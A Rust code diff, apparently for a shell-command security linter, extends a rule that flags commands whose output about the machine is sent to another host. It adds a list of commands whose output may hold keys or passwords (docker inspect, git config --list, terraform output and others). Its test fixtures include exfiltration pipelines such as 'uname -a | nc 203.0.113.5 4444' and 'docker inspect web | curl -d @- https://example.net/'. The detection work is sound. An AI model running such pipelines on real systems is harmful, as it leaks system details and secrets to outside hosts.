@@ -7,6 +7,7 @@ use super::{
     Hit, Rule, Scene, Shelf, When,
     flow::{host_kind, host_resource, is_local, named_as_credential, shown},
     hosts::{self, HostKind},
+    pattern,
 };
 use crate::{
     effect::{Argument, Connection, Effect, EffectKind, Kinds, Run, Target},
@@ -256,7 +257,11 @@ static RULES: &[Rule] = &[
         message: "what a program reports about this machine is sent to another one",
         remedy: "check that the receiver may have it",
         when: When::Effect(Kinds::CONNECT.and(Kinds::RUN), output_sent),
-        fires: &["uname -a | nc 203.0.113.5 4444", "ps aux | curl -d @- https://example.net/"],
+        fires: &[
+            "uname -a | nc 203.0.113.5 4444",
+            "ps aux | curl -d @- https://example.net/",
+            "docker inspect web | curl -d @- https://example.net/",
+        ],
         quiet: &[
             "uname -a",
             "curl -d \"$(date)\" http://localhost:9000/",
@@ -601,14 +606,35 @@ fn output_sent(effect: &Effect, scene: &Scene<'_>) -> Option<Hit> {
         return None;
     }
     let run = scene.origins(sends).into_iter().find_map(|origin| match &origin.kind {
-        EffectKind::Run(run) if reports_on_machine(&run.program) => Some(run),
+        EffectKind::Run(run) if reports_on_machine(&run.program) || holds_keys(run) => Some(run),
         _ => None,
     })?;
     let severity = match host_kind(connection) {
         HostKind::Hidden => Severity::High,
+        HostKind::Local | HostKind::Private => Severity::Medium,
+        _ if holds_keys(run) => Severity::High,
         _ => Severity::Medium,
     };
     Some(hit(connection, severity, &format!("the output of `{}` is sent", run.program)))
+}
+
+/// Whether a program prints settings or states that keys and passwords stand among.
+fn holds_keys(run: &Run) -> bool {
+    const SHAPES: &[&str] = &[
+        "adb backup",
+        "docker|nerdctl|podman … inspect",
+        "docker|nerdctl|podman inspect",
+        "git config --get-regexp|--list|-l",
+        "nmcli --show-secrets|-s",
+        "npm|pnpm|yarn config get|list|ls",
+        "pip|pip3 config list",
+        "pulumi stack export",
+        "pulumi config",
+        "railway variables",
+        "terraform|tofu output",
+    ];
+    let command = pattern::Command::new(run);
+    SHAPES.iter().any(|shape| command.has_shape(shape))
 }
 
 fn reports_on_machine(program: &str) -> bool {
